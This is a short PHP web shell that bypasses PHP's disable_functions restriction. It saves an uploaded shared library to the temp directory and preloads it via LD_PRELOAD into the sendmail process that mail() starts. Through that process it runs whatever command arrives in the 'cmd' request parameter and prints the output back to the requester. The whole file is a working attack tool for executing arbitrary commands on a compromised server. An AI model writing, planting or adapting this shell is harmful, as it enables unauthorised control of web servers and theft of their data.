<?php
// disable_functions bypass: a shared object, uploaded in the request, is preloaded into the
// sendmail process that mail() starts; it runs the command found in the environment
$dir = sys_get_temp_dir();
if (!empty($_FILES['lib'])) {
    move_uploaded_file($_FILES['lib']['tmp_name'], $dir . '/libcache.so');
}
$out = $dir . '/.out';
putenv('EVIL_CMDLINE=' . $_REQUEST['cmd'] . ' > ' . $out . ' 2>&1');
putenv("LD_PRELOAD=" . $dir . "/libcache.so");
mail('nobody@localhost', '', '', '');
echo '<pre>' . htmlspecialchars(@file_get_contents($out)) . '</pre>';
@unlink($out);
